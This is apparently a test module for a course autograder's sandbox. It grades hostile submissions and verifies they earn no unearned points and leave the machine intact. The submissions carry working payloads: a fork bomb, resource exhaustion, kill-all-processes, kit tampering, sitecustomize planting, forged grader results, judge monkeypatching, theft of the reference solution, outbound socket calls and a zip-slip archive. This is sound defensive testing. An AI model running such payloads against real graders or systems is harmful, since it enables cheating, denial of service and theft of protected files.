"""Hostile submissions, each run through the grader: none earns more than its honest part, and none harms the
machine, the kit or the submission graded next (issue 17, item 7).

Every submission is the untouched release (honest part: nothing) or the solution (honest part: everything),
with hostile code at import or in place of ``nms``; they are graded in one batch, two at a time, on ``nms``
and ``fcos_make_centerness_targets`` (20 points), with two honest canaries first and last. One more batch
grades ``FCOS.inference``, whose sandbox holds the references of the other functions, against a submission
that hunts for the reference of inference itself. Afterwards the machine is checked: the kit and the
solution unchanged, no ``sitecustomize.py``, no process left, no connection to the host, nothing left in the
temporary folder.

The attacks only mean something inside the namespaces sandbox (process mode leaves the solution readable
and the grader killable), so the module skips without it; the user switch is checked when run as root (CI).
"""
import hashlib
import json
import os
import pwd
import socket
import stat
import sys
import tempfile
import textwrap
import threading
import zipfile

import pytest

from eecs598.staff import grade, release
from eecs598.staff.report import format_table, gradescope_results, to_json
from eecs598.staff.sandbox import SandboxConfig
from eecs598.staff.trusted import load_points

from grader_support import needs_namespaces, needs_root

pytestmark = needs_namespaces

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MODULES = ("common.py", "one_stage_detector.py")
ONLY = ["nms", "fcos_make_centerness_targets"]
NMS_STUB = 'raise NotImplementedError("nms is not implemented yet: write it in common.py")'
NMS_SOLUTION = '    ### BEGIN SOLUTION\n    _check_nms_inputs("nms", boxes, scores, iou_threshold)'
MARKER = "fcos-hostile-marker"
SANDBOX = SandboxConfig(mode="namespaces", memory_mb=1024, scratch_mb=32, output_mb=16, processes=32, open_files=128)
ENVIRONMENT = "HOME,LANG,MPLBACKEND,OMP_NUM_THREADS,PATH,PYTHONDONTWRITEBYTECODE,TMPDIR,TORCH_HOME"

# Finding the solution's common.py anywhere the sandbox can look (the kit is public: its paths are known).
_FIND_REFERENCE = '''
import os, sys, eecs598
found = []
for module in list(sys.modules.values()):  # the editable install's map of the solution's files
    mapping = getattr(module, "MAPPING", None)
    if isinstance(mapping, dict):
        found += [os.path.join(os.path.dirname(str(p)), "common.py") for p in mapping.values()]
kit = os.path.dirname(os.path.dirname(os.path.abspath(eecs598.__file__)))
for root in (kit, "/autograder/source", "/proc/1/root", "/work", "/tmp", "/"):
    for folder, subfolders, names in os.walk(root):
        if folder.count(os.sep) > 7 or len(found) > 400:
            subfolders[:] = []
        found += [os.path.join(folder, n) for n in names if n in ("common.py", "fcos-reference.py")]
texts = []
for path in found:
    try:
        with open(path) as f:
            text = f.read()
    except OSError:
        continue
    if "_greedy_nms_in_order" in text:
        texts.append(text)
'''

NMS_ATTACKS = {
    "forward_to_reference_in_memory": '''
import gc, sys
for obj in gc.get_objects():
    name = getattr(obj, "__name__", "")
    if callable(obj) and name in ("nms", "_greedy_nms_in_order") and obj is not nms \\
            and not str(getattr(obj, "__module__", "")).startswith("torch"):
        try:
            return obj(boxes, scores, iou_threshold)
        except Exception:
            pass
raise RuntimeError("no reference in memory")
''',
    "forward_to_reference_on_disk": _FIND_REFERENCE + '''
for text in texts:
    namespace = {"__name__": "stolen"}
    exec(compile(text, "stolen.py", "exec"), namespace)
    return namespace["nms"](boxes, scores, iou_threshold)
raise RuntimeError("no reference on disk")
''',
    "exhaust_time": "while True:\n    pass\n",
    "child_outlives_the_limit": f'''
import os, time
if not getattr(nms, "forked", False):
    nms.forked = True
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 300; true", "{MARKER}-child"])
        os._exit(0)
    time.sleep(0.5)
return torch.zeros(0, dtype=torch.long)
''',
    "exhaust_memory": '''
blocks = []
try:
    while True:
        blocks.append(bytearray(128 << 20))
except MemoryError:
    pass
return torch.empty(1 << 40, dtype=torch.uint8)
''',
    "exhaust_disk": f'''
import os
chunk = b"\\0" * (1 << 20)
written = 0
for folder in (os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "."), "/tmp", ".", "/dev/shm"):
    try:
        with open(os.path.join(folder, "{MARKER}-fill-" + str(written)), "wb") as f:
            for _ in range(4096):
                f.write(chunk)
                written += 1
    except OSError:
        pass
raise RuntimeError(f"wrote {{written}} MiB")
''',
    "fork_bomb": '''
import os, time
children = 0
while children < 10_000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
raise RuntimeError(f"forked {children}")
''',
    "exhaust_open_files": '''
handles = []
while len(handles) < 100_000:
    try:
        handles.append(open("/dev/null"))
    except OSError:
        break
raise RuntimeError(f"opened {len(handles)}")
''',
    "connect_to_the_host": '''
import socket
for address in (("127.0.0.1", PORT), ("localhost", PORT), ("example.com", 80)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"hello from the sandbox")
    except OSError:
        pass
raise RuntimeError("no network")
''',
    "exfiltrate_through_feedback": _FIND_REFERENCE + '''
print("Traceback (most recent call last):\\n  SECRET-CHILD-OUTPUT", flush=True)
raise ValueError("STOLEN:" + "".join(texts) + "A" * 1_000_000)
''',
    "environment_is_clean": 'import os\nraise ValueError(",".join(sorted(os.environ)))\n',
    "runs_unprivileged": 'raise ValueError(" ".join(open("/proc/self/uid_map").read().split()))\n',
    "hidden_values_stay_hidden": "return torch.arange(3)\n",
    "huge_answer": '''
import os
junk = b"FCOS-ANSWER-1\\n" + b"\\xff" * (8 << 20)
for fd in range(3, 64):
    try:
        for _ in range(4):
            os.write(fd, junk)
    except OSError:
        pass
return torch.zeros(300_000_000, dtype=torch.uint8)
''',
}

TOP_LEVEL_ATTACKS = {  # (base, code appended to common.py, expected points)
    "patch_the_judge": ("release", '''
import builtins, torch, torchvision
torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
torch.equal = lambda a, b: True
torch.allclose = lambda *a, **k: True
torchvision.ops.nms = lambda boxes, scores, t: torch.arange(len(boxes))
for _name in ("eecs598.staff.checks.base", "eecs598.staff.trusted", "eecs598.staff.runner"):
    try:
        _module = __import__(_name, fromlist=["x"])
        for _attr in ("assert_close", "judge_run", "_judge_check"):
            setattr(_module, _attr, lambda *a, **k: None)
    except Exception:
        pass
builtins.isinstance = lambda obj, cls: True
''', 0),
    "forge_answers_and_results": ("release", '''
import json, os, struct
def _frame(obj):
    header = json.dumps(obj).encode()
    message = struct.pack(">Q", len(header)) + header
    return b"FCOS-ANSWER-1\\n" + struct.pack(">Q", len(message)) + message
_forged = b"".join(_frame({"__dict__": [["event", "done"], ["check", name], ["status", "passed"], ["points", 15]]})
                   for name in ("nms_notebook_workload", "nms_other_workloads", "centerness_published"))
_forged += _frame({"__dict__": [["event", "finished"]]}) + b"FCOS-ANSWER-1\\n" + struct.pack(">Q", 1 << 40)
for _fd in range(3, 256):
    try:
        os.write(_fd, _forged)
    except OSError:
        pass
for _folder in (".", os.environ.get("HOME", "."), "/tmp", "/scratch", "/"):
    for _name in ("status.json", "results.json", "answers.bin"):
        try:
            with open(os.path.join(_folder, _name), "w") as _f:
                json.dump({"score": 100, "exit_code": 0, "timed_out": False}, _f)
        except OSError:
            pass
''', 0),
    "tamper_with_the_kit": ("solution", '''
import glob, os, sys, eecs598
def _try(action):
    try:
        action()
    except Exception:
        pass
_kit = os.path.dirname(os.path.abspath(eecs598.__file__))
for _path in glob.glob(os.path.join(_kit, "**", "*.py"), recursive=True) + \\
        [os.path.join(os.path.dirname(_kit), _n) for _n in ("common.py", "one_stage_detector.py")]:
    _try(lambda: open(_path, "a").write("\\nraise SystemExit('tampered')\\n"))
    _try(lambda: os.remove(_path))
for _folder in sys.path + ["/tmp", "."]:
    for _name in ("sitecustomize.py", "usercustomize.py"):
        _try(lambda: open(os.path.join(_folder, _name), "w").write("import os; os._exit(1)\\n"))
    _try(lambda: os.makedirs(os.path.join(_folder, "__pycache__"), exist_ok=True))
    _try(lambda: open(os.path.join(_folder, "__pycache__", "common.cpython-311.pyc"), "wb").write(b"junk"))
''', 20),
    "leave_state_behind": ("solution", f'''
import os
for _folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "/scratch"):
    try:
        with open(os.path.join(_folder, "{MARKER}-state"), "w") as _f:
            _f.write("left behind")
    except OSError:
        pass
os.environ["{MARKER}"] = "1"
''', 20),
    "finds_no_state": ("solution", f'''
import os
for _folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "/scratch"):
    if os.path.exists(os.path.join(_folder, "{MARKER}-state")):
        raise ImportError("a file of an earlier submission persisted")
if "{MARKER}" in os.environ:
    raise ImportError("the environment of an earlier submission persisted")
''', 20),
    "kill_everything": ("solution", '''
import os, signal
for _pid in range(1, 32768):
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
''', 20),
    "exit_early": ("release", "import os\nos._exit(0)\n", 0),
}


def _read(path):
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def _fingerprint():
    """Hashes of the kit's and the solution's files."""
    paths = [os.path.join(REPO_ROOT, f) for f in MODULES]
    for folder, subfolders, names in os.walk(os.path.join(REPO_ROOT, "eecs598")):
        subfolders[:] = [d for d in subfolders if d != "__pycache__"]
        paths += [os.path.join(folder, n) for n in names]
    return {p: hashlib.sha256(open(p, "rb").read()).hexdigest() for p in sorted(paths)}


def _customize_files():
    return sorted(os.path.join(d, n) for d in sys.path if d and os.path.isdir(d)
                  for n in ("sitecustomize.py", "usercustomize.py") if os.path.exists(os.path.join(d, n)))


def _marked_processes():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if MARKER.encode() in f.read():
                    found.append(pid)
        except OSError:
            continue
    return found


class _Listener:
    """A TCP server on the host's 127.0.0.1 that counts connections."""

    def __init__(self):
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(8)
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                connection, _ = self.socket.accept()
                self.connections += 1
                connection.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join()
        self.socket.close()


def _write(folder, texts):
    os.makedirs(folder, exist_ok=True)
    for file, text in texts.items():
        with open(os.path.join(folder, file), "w", encoding="utf-8") as f:
            f.write(text)
    return str(folder)


def _with_nms(base_texts, body, port):
    code = textwrap.indent(textwrap.dedent(body).replace("PORT", str(port)), "    ")
    common = base_texts["common.py"]
    common = common.replace("    " + NMS_STUB, code) if NMS_STUB in common else common.replace(NMS_SOLUTION, code + NMS_SOLUTION)
    return dict(base_texts, **{"common.py": common})


def _hostile_zip(path):
    with zipfile.ZipFile(path, "w") as archive:
        for name, data, mode in (("../../../evil.py", "x = 1", stat.S_IFREG | 0o644),
                                 ("common.py", os.path.join(REPO_ROOT, "common.py"), stat.S_IFLNK | 0o777),
                                 ("one_stage_detector.py", "a = 1", stat.S_IFREG | 0o644),
                                 ("x/one_stage_detector.py", "b = 2", stat.S_IFREG | 0o644),
                                 ("one_stage_detector.py", "c = 3", stat.S_IFREG | 0o644)):
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, data)
    return str(path)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade every hostile submission (and the canaries) in one run; the machine's state before and after."""
    scratch = tmp_path_factory.mktemp("hostile")
    release_dir = scratch / "release"
    release.build_release(str(release_dir))
    bases = {"release": {f: _read(release_dir / f) for f in MODULES},
             "solution": {f: _read(os.path.join(REPO_ROOT, f)) for f in MODULES}}
    points = load_points(grade.POINTS_PATH)
    for entry in points["functions"]:
        entry["time_limit_s"] = 12
    points_path = scratch / "points.json"
    points_path.write_text(json.dumps(points))
    listener = _Listener()
    submissions = {"canary_first": (_write(scratch / "canary_first", bases["solution"]), 20)}
    for name, body in NMS_ATTACKS.items():
        submissions[name] = (_write(scratch / name, _with_nms(bases["release"], body, listener.port)), 0)
    for name, (base, code, expected) in TOP_LEVEL_ATTACKS.items():
        texts = dict(bases[base], **{"common.py": bases[base]["common.py"] + "\n" + textwrap.dedent(code)})
        submissions[name] = (_write(scratch / name, texts), expected)
    linked = scratch / "links_to_the_solution"
    linked.mkdir()
    for file in MODULES:
        (linked / file).symlink_to(os.path.join(REPO_ROOT, file))
    submissions["links_to_the_solution"] = (str(linked), 0)
    submissions["hostile_zip"] = (_hostile_zip(scratch / "hostile.zip"), 0)
    submissions["canary_last"] = (_write(scratch / "canary_last", bases["solution"]), 20)
    before = {"fingerprint": _fingerprint(), "customize": _customize_files(), "tmp": set(os.listdir(tempfile.gettempdir()))}
    try:
        results = grade.grade_submissions([path for path, _ in submissions.values()], only=ONLY, workers=2,
                                          points_path=str(points_path), sandbox_config=SANDBOX)
    finally:
        listener.close()
    after = {"fingerprint": _fingerprint(), "customize": _customize_files(), "tmp": set(os.listdir(tempfile.gettempdir())),
             "processes": _marked_processes(), "connections": listener.connections}
    graded = {name: (result, expected) for (name, (_, expected)), result in zip(submissions.items(), results)}
    return {"graded": graded, "before": before, "after": after, "scratch": scratch}


CASES = ["canary_first"] + list(NMS_ATTACKS) + list(TOP_LEVEL_ATTACKS) + ["links_to_the_solution", "hostile_zip",
                                                                         "canary_last"]


@pytest.mark.parametrize("name", CASES)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_earns_only_its_honest_part(batch, name):
    result, expected = batch["graded"][name]
    assert result.points == expected, format_table(result)


def test_time_memory_disk_processes_and_early_exit_end_in_a_failed_run(batch):
    graded = batch["graded"]
    assert graded["exhaust_time"][0].by_function()["nms"].status == "timeout"
    assert graded["exhaust_time"][0].by_function()["nms"].seconds < 12 + 10
    assert graded["huge_answer"][0].by_function()["nms"].status in ("oversized", "graded")
    assert "ended early (exit status 0)" in graded["exit_early"][0].by_function()["nms"].message
    assert "forked" in graded["fork_bomb"][0].by_function()["nms"].message
    assert "opened" in graded["exhaust_open_files"][0].by_function()["nms"].message
    written = graded["exhaust_disk"][0].by_function()["nms"].message
    assert "RuntimeError: wrote " in written and int(written.split("wrote ")[1].split()[0]) <= SANDBOX.scratch_mb


def test_feedback_carries_no_solution_no_child_output_and_no_hidden_values(batch):
    solution = _read(os.path.join(REPO_ROOT, "common.py")).split("\n")
    secret_lines = [line.strip() for line in solution if len(line.strip()) > 25 and "_greedy_nms_in_order" in line]
    assert secret_lines
    for name, (result, _) in batch["graded"].items():
        text = format_table(result) + json.dumps(to_json(result)) + json.dumps(gradescope_results(result, "visible"))
        assert "SECRET-CHILD-OUTPUT" not in text and "Traceback" not in text, name
        assert not any(line in text for line in secret_lines), name
        for function in result.functions:
            assert len(function.message) < 1000, name
    hidden = [c for f in batch["graded"]["hidden_values_stay_hidden"][0].functions for c in f.checks
              if not c["published"] and c["status"] == "failed"]
    assert hidden and not any("torchvision keeps" in c["message"] or ", expected " in c["message"] for c in hidden)
    environment = batch["graded"]["environment_is_clean"][0].by_function()["nms"].message
    assert f"ValueError: {ENVIRONMENT}" in environment


@needs_root
def test_student_code_runs_as_nobody(batch):
    message = batch["graded"]["runs_unprivileged"][0].by_function()["nms"].message
    assert f"ValueError: 0 {pwd.getpwnam('nobody').pw_uid} 1" in message  # root inside maps to nobody outside


def test_the_machine_and_the_kit_are_unharmed(batch):
    before, after = batch["before"], batch["after"]
    assert after["fingerprint"] == before["fingerprint"]
    assert after["customize"] == before["customize"]
    assert after["processes"] == []
    assert after["connections"] == 0
    assert not [name for name in after["tmp"] - before["tmp"] if MARKER in name or name in ("common.py", "status.json")]
    assert not list(batch["scratch"].parent.rglob("evil.py"))


@pytest.fixture(scope="module")
def inference_batch(tmp_path_factory):
    """FCOS.inference's sandbox holds the references of forward, the backbone, the head and NMS: a submission
    whose inference hunts for the reference of inference itself, and an honest one."""
    scratch = tmp_path_factory.mktemp("hostile-inference")
    solution = {f: _read(os.path.join(REPO_ROOT, f)) for f in MODULES}
    body = '        ### BEGIN SOLUTION\n        height, width = images.shape[-2:]'
    assert solution["one_stage_detector.py"].count(body) == 1
    hunt = textwrap.indent(textwrap.dedent('''
        import gc, inspect, sys
        texts = []
        for obj in gc.get_objects():
            try:
                code = getattr(obj, "__code__", None)
                found = (code is not None and getattr(obj, "__name__", "") == "inference" and code.co_argcount == 8
                         and code.co_filename != __file__ and not code.co_filename.startswith((sys.prefix, sys.base_prefix)))
            except Exception:  # lazily initialised objects (CUDA) refuse attribute lookups
                continue
            if found:
                return obj(self, images, locations_per_fpn_level, pred_cls_logits, pred_boxreg_deltas,
                           pred_ctr_logits, test_score_thresh, test_nms_thresh)
            if isinstance(obj, (dict, list)):
                values = obj.values() if isinstance(obj, dict) else obj
                texts += [v for v in values if isinstance(v, str) and "def inference(" in v and "HUNTER" not in v]
        for text in texts:
            namespace = dict(globals())
            try:
                exec(inspect.cleandoc(text), namespace)
                return namespace["inference"](self, images, locations_per_fpn_level, pred_cls_logits,
                                              pred_boxreg_deltas, pred_ctr_logits, test_score_thresh, test_nms_thresh)
            except Exception:
                continue
        raise RuntimeError("no reference of inference (HUNTER)")
    '''), "        ")
    hostile = dict(solution, **{"one_stage_detector.py": solution["one_stage_detector.py"].replace(body, hunt + body)})
    paths = [_write(scratch / "hunter", hostile), _write(scratch / "honest", solution)]
    results = grade.grade_submissions(paths, only=["FCOS.inference"], workers=2, sandbox_config=SANDBOX)
    return results


def test_no_other_functions_reference_leads_back_to_the_graded_one(inference_batch):
    hunter, honest = inference_batch
    assert hunter.points == 0 and "no reference of inference" in hunter.functions[0].message, format_table(hunter)
    assert honest.points == 15, format_table(honest)
